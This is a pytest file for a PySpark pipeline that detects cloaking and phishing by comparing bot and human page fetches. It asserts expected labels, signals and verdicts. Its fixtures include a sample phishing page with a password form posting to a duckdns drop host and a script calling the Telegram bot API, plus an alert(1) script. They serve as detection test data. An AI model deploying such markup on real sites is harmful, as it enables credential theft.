"""Labels, gates, signals and verdicts of hand-written scenarios against hand-written outcomes."""

import json

import pytest
from pyspark.sql import functions as F

from skyloom.operators import pairs as P
from skyloom.operators import signals as S
from skyloom.operators import verdicts as V

CLEAN = "<html><title>Shop</title><h1>Closed for maintenance</h1></html>"
EVIL = '<title>Shop</title><form action="https://drop.duckdns.org/x"><input type="password"></form><p>Sign in</p><script>fetch("https://api.telegram.org/bot")</script><body oncontextmenu="return false">'
LOGIN = '<title>Shop</title><form action="/login"><input type="password" required></form><p>Sign in</p>'
CHALLENGE = "<p>Checking your browser</p>"
FIELDS = (
    "case string, slot string, replicate int, access_index int, status int, error string, html string, url string, redirect_chain array<string>, page_url string, dom_html string, early_html string, truncated boolean, non_html boolean, body_error string, blocked int, variant string"
)
DEFAULT = {"status": 200, "error": None, "html": CLEAN, "url": "https://shop.example/", "redirect_chain": ["https://shop.example/"], "page_url": None, "dom_html": None, "early_html": None, "truncated": False, "non_html": False, "body_error": "", "blocked": 0, "variant": None}
SLOTS = (("bot", 1), ("bot", 2), ("human", 1), ("human", 2))
_b = lambda **x: x
GONE = {"status": 0, "error": "timeout", "html": ""}
#: bot#1, bot#2, human#1, human#2 (None: not observed), rule label, label, reasons that must be there, reasons that must not.
CASES = {
    "replicated": ([{}, {}, _b(html=EVIL), _b(html=EVIL)], "true", "true", []),
    "same": ([{}, {}, {}, {}], "false", "false", []),
    "first human only": ([{}, {}, _b(html=EVIL), {}], "true", "unknown", ["difference_not_replicated"]),
    "first bot only": ([_b(html=EVIL), {}, {}, {}], "false", "unknown", ["reverse_difference_or_order_effect", "bot_unstable_mechanisms"]),
    "bot error later": ([{}, _b(status=503), {}, {}], "false", "unknown", ["bot#2:http_error_status"]),
    "nonce": ([_b(html=CLEAN + f"<i>{i}</i>") for i in range(4)], "false", "false", []),
    "titles": ([{}, {}, _b(html=CLEAN.replace("Shop", "Bank")), _b(html=CLEAN.replace("Shop", "Bank"))], "false", "unknown", ["systematic_title_difference_without_mechanism_evidence", "systematic_html_sha256_difference_without_mechanism_evidence"]),
    "host": ([{}, {}, _b(url="https://b.example/"), _b(url="https://b.example/")], "false", "unknown", ["systematic_final_host_difference_without_mechanism_evidence"]),
    "host and page": ([{}, {}, _b(url="https://b.example/", html=CLEAN + "<p>other</p>"), _b(url="https://b.example/", html=CLEAN + "<p>other</p>")], "false", "unknown", ["systematic_final_host_difference_without_mechanism_evidence", "systematic_html_sha256_difference_without_mechanism_evidence"]),
    "host moves": ([{}, _b(url="https://www.shop.example/"), {}, {}], "false", "unknown", ["bot_unstable_final_host"]),
    "path and port": ([{}, {}, _b(url="https://SHOP.example:443/a"), _b(url="https://SHOP.example:443/a")], "false", "false", []),
    "status": ([{}, {}, _b(status=203), _b(status=203)], "false", "unknown", ["systematic_status_difference_without_mechanism_evidence"]),
    "forms": ([_b(html=CLEAN + "<form action='https://a.example/f'></form>")] * 2 + [_b(html=CLEAN + "<form action='https://b.example/f'></form>")] * 2, "false", "unknown", ["systematic_form_hosts_difference_without_mechanism_evidence"]),
    "scripts": ([_b(html=CLEAN + "<script src='https://a.example/f'></script>")] * 2 + [_b(html=CLEAN + "<script src='https://b.example/f'></script>")] * 2, "false", "unknown", ["systematic_script_hosts_difference_without_mechanism_evidence"]),
    "rendered": ([{}, {}, _b(dom_html=LOGIN), _b(dom_html=LOGIN)], "false", "unknown", ["human#1:js_rendered_mechanisms_not_compared"]),
    "challenge": ([{}, {}, _b(html=EVIL + CHALLENGE), _b(html=EVIL + CHALLENGE)], "true", "unknown", ["human#1:challenge_or_block_page"]),
    "prose is no gate": ([_b(html=CLEAN + "<p>our captcha policy</p>")] * 4, "false", "false", []),
    "blocked bot, evil": ([_b(status=403), _b(status=403), _b(html=EVIL), _b(html=EVIL)], "true", "true", []),
    "blocked bot, login": ([_b(status=403), _b(status=403), _b(html=LOGIN), _b(html=LOGIN)], "false", "unknown", ["bot#1:http_error_status"]),
    "protocol reset": ([_b(status=0, error="net::ERR_HTTP2_PROTOCOL_ERROR", html="")] * 2 + [_b(html=EVIL)] * 2, "true", "true", []),
    "blank bot": ([_b(html="")] * 2 + [_b(html=EVIL)] * 2, "true", "true", []),
    "fork": ([{}, {}] + [_b(html=EVIL, url="https://b.example/", redirect_chain=["https://shop.example/", "https://b.example/"])] * 2, "true", "true", []),
    "no human": ([{}, {}, GONE, GONE], "unknown", "unknown", ["human#1:crawl_error"]),
    "no replicate": ([{}, None, _b(html=EVIL), None], "true", "unknown", ["missing_replicate_pair", "human#2:missing_observation"]),
    "truncated": ([{}, {}, _b(html=EVIL, truncated=True), _b(html=EVIL)], "true", "unknown", ["human#1:content_truncated"]),
    "not a page": ([_b(non_html=True), _b(non_html=True), {}, {}], "unknown", "unknown", ["bot#1:non_html_document"]),
    "body lost": ([{}, {}, _b(html="", body_error="gone"), {}], "unknown", "unknown", ["human#1:document_body_unavailable"]),
    "mechanisms without high specificity": ([{}, {}, _b(html=LOGIN), _b(html=LOGIN)], "true", "unknown", ["difference_without_high_specificity_evidence"]),
    "prompt": ([{}, {}, _b(html=CLEAN + "<script>alert(1)</script>"), {}], "false", "unknown", ["human#1:interaction_gate"]),
}


def frame(spark, cases, variants=()):
    out = []
    for case, four in cases.items():
        for i, ((slot, replicate), own) in enumerate(zip(SLOTS, four, strict=True)):
            if own is not None:
                o = DEFAULT | own
                out.append((case, slot, replicate, {("bot", 1): 1, ("human", 1): 2, ("bot", 2): 3, ("human", 2): 4}[slot, replicate], *(o[k] for k in DEFAULT)))
    for case, name, own in variants:
        o = DEFAULT | own | {"variant": name}
        out.append((case, "human", 1, 5, *(o[k] for k in DEFAULT)))
    df = spark.createDataFrame(out, FIELDS)
    at = F.timestamp_millis(F.lit(1704067200000) + F.col("access_index") * 1500)
    more = {"kind": F.when(F.col("slot") == "bot", "http_baseline").otherwise("browser"), "observed_at": at, "dom_truncated": F.lit(False), "client_navigations": F.lit(0), "failed": F.lit(0), "dialogs": F.lit(0), "downloads": F.lit(0), "popups": F.lit(0)}
    return P.pair_table(P.seen(df.withColumns(more), "case"), "case")


def test_labels(spark):
    got = {r["case"]: r for r in P.label(frame(spark, {k: c[0] for k, c in CASES.items()})).collect()}
    for case, (_, rule, label, reasons) in CASES.items():
        r = got[case]
        assert (r["rule_label"], r["label"]) == (rule, label), (case, r["reasons"])
        assert set(reasons) <= set(r["reasons"]), (case, r["reasons"])
        assert label == "unknown" or not r["reasons"], case
    assert got["replicated"]["fired"] == ["C1"] and got["blocked bot, evil"]["fired"] == ["C2"] and got["protocol reset"]["fired"] == ["C3"] and got["blank bot"]["fired"] == ["C4"] and got["fork"]["fired"] == ["C1", "C5"]
    assert got["replicated"]["basis"].startswith("rules=C1") and got["same"]["reason"] == "not_observed_in_tested_client_types"
    assert "anti_bot_only" in got["blocked bot, login"]["evidence"] and got["same"]["evidence"] == ["no_mechanisms"]


def test_rules_and_variants_keep_a_label_open(spark):
    pairs = frame(spark, {"same": CASES["same"][0], "replicated": CASES["replicated"][0]})
    front = {r["case"]: r for r in P.label(pairs, frontend=F.array(F.lit("S1"))).collect()}
    assert front["same"]["reasons"] == ["frontend_cloaking_code_present:S1"] and front["replicated"]["label"] == "true"
    changed = {r["case"]: r for r in P.label(pairs, variant_differences=F.array(F.lit("mobile"))).collect()}
    assert changed["same"]["reasons"] == ["variant_difference_unconfirmed:mobile"] and changed["replicated"]["label"] == "true"


def _signals(spark, cases, variants=()):
    done = S.signals(frame(spark, cases, variants), F.array().cast("array<string>"))
    return {r["case"]: {s["id"]: s for s in r["signals"]} | {"variants": r["variant_differences"]} for r in done.collect()}


def test_signals(spark):
    dom = lambda **x: _b(dom_html=x.get("html", CLEAN), early_html=x.get("html", CLEAN), page_url="https://shop.example/", **x)
    cases = {
        "same": [{}, {}, dom(), dom()], "evil": [{}, {}, dom(html=EVIL), dom(html=EVIL)], "status": [{}, {}, dom(status=404), dom(status=404)], "rendered": [{}, {}, _b(dom_html=LOGIN, early_html=CLEAN), _b(dom_html=CLEAN, early_html=CLEAN)], "gone": [GONE, GONE, GONE, GONE],
        "first": [_b(html=EVIL), {}, dom(), dom()], "hops": [_b(redirect_chain=["https://a/", "https://b/", "https://c/"]), {}, dom(), dom()], "moved": [{}, {}, dom() | {"page_url": "https://shop.example/x"}, dom()], "blank": [_b(html="<script>1</script>"), {}, dom(), dom()], "title": [{}, {}, dom(html="<title>404 Not Found</title>x"), dom()],
        "stopped": [{}, {}, dom(blocked=2), dom()], "no browser": [{}, {}, None, None],
    }
    variants = [("same", "mobile", _b()), ("evil", "mobile", _b(html=LOGIN)), ("gone", "referer", GONE)]
    got = _signals(spark, cases, variants)
    status = lambda case, name: got[case][name]["status"]
    assert len(got["same"]) == 18 and [k for k, s in got["same"].items() if k != "variants" and s["status"] == "observed"] == []
    assert status("same", "desktop_mobile_difference") == "not_observed" and status("same", "referer_presence_effect") == "not_tested" and status("gone", "referer_presence_effect") == "unmeasurable"
    assert status("evil", "desktop_mobile_difference") == "observed" and got["evil"]["variants"] == ["mobile"] and "mechanisms" in got["evil"]["desktop_mobile_difference"]["evidence"]
    for name in ("client_type_response_difference", "visible_text_difference", "script_inventory_difference", "decoy_candidate"):
        assert status("evil", name) == "observed" and status("gone", name) == "unmeasurable", name
    assert status("status", "http_status_difference") == "observed" and status("gone", "http_status_difference") == "unmeasurable" and status("status", "error_page") == "observed" and status("title", "error_page") == "observed"
    assert status("rendered", "js_modified_dom") == "observed" and status("rendered", "delayed_content") == "observed" and status("no browser", "js_modified_dom") == "not_tested" and status("no browser", "delayed_content") == "not_tested"
    assert status("gone", "browser_errors") == "observed" and status("stopped", "browser_errors") == "observed" and status("hops", "multi_hop_redirect") == "observed" and status("moved", "client_side_redirect") == "observed" and status("no browser", "client_side_redirect") == "not_tested"
    assert status("blank", "blank_page") == "observed" and status("first", "first_access_only") == "observed" and status("first", "repeat_instability") == "observed" and status("gone", "repeat_instability") == "unmeasurable"
    assert got["same"]["repeat_instability"]["evidence"] == "1.500,1.500,1.500"


def test_verdicts(spark):
    dom = lambda html, **x: _b(html=html, dom_html=html, page_url="https://shop.example/", **x)
    cases = {
        "evil": ([{}, {}, dom(EVIL), dom(EVIL)], "human#1", "phishing", "phishing"), "clean": ([{}, {}, dom(CLEAN), dom(CLEAN)], "human#1", "not_detected", "not_detected"), "second": ([{}, {}, GONE, dom(CLEAN)], "human#2", "not_detected", "not_detected"),
        "no script run": ([{}, {}, GONE, GONE], "bot#1", "not_detected", "unknown"), "evil without scripts": ([_b(html=EVIL), {}, GONE, GONE], "bot#1", "phishing", "phishing"), "caveat": ([{}, {}, dom(CLEAN, blocked=1), {}], "human#1", "not_detected", "unknown"), "none": ([GONE, GONE, GONE, GONE], "", "not_run", "unknown"),
    }
    pairs = V.choose_page(frame(spark, {k: c[0] for k, c in cases.items()}))
    got = {r["case"]: r for r in V.classify(pairs).withColumn("live", V.alive(pairs)).collect()}
    for case, (_, page, rule, verdict) in cases.items():
        assert (got[case]["page"]["name"], got[case]["rule_verdict"], got[case]["verdict"]) == (page, rule, verdict), case
    assert got["evil"]["verdict_basis"] == "layer1:D1,D3" and got["evil"]["confidence"] == 0.95 and got["caveat"]["verdict_reason"] == "content_requests_blocked" and got["none"]["verdict_reason"] == "crawl_error"
    assert "analysis_without_js_execution" in got["no script run"]["verdict_caveats"] and got["none"]["live"] is None and got["evil"]["live"]
    told = pairs.select("case", V.render_evidence(V.page_evidence(F.col("page"))).alias("page"), V.render_evidence(V.cloaking_evidence(F.array(F.lit("x")), F.array(F.lit("y"))), most=40).alias("short"), V.render_evidence(V.cloaking_evidence(F.array(F.lit("x")), F.array(F.lit("y")))).alias("all"))
    told = {r["case"]: r for r in told.collect()}
    page, every = json.loads(told["evil"]["page"]), json.loads(told["none"]["all"])
    assert page["forms"] == 1 and page["input_types"] == ["password"] and page["title"] == "Shop" and set(page) == {"url", "title", "visible_text_excerpt", "forms", "input_types"}
    assert [o["name"] for o in every["observations"]] == ["bot#1", "bot#2", "human#1", "human#2"] and every["observations"][0]["issues"] == ["crawl_error"] and len(told["evil"]["short"]) == 40 and "verdict" not in told["evil"]["all"]
    raised = {r["case"]: r for r in V.classify(pairs, F.lit(9)).collect()}
    assert raised["clean"]["verdict_basis"].startswith("layer2_score=0.150<")


@pytest.mark.parametrize("supports, techniques, fired, want", [(True, ["automation_detection"], [], True), (True, ["user_agent_check"], [], False), (True, ["automation_detection"], ["S1"], False), (False, ["automation_detection"], [], False)])
def test_model_only_rule(spark, supports, techniques, fired, want):
    df = spark.createDataFrame([(supports, techniques, fired)], "s boolean, t array<string>, f array<string>")
    assert df.select(V.model_only_rule(F.col("s"), F.col("t"), F.col("f"))).first()[0] is want
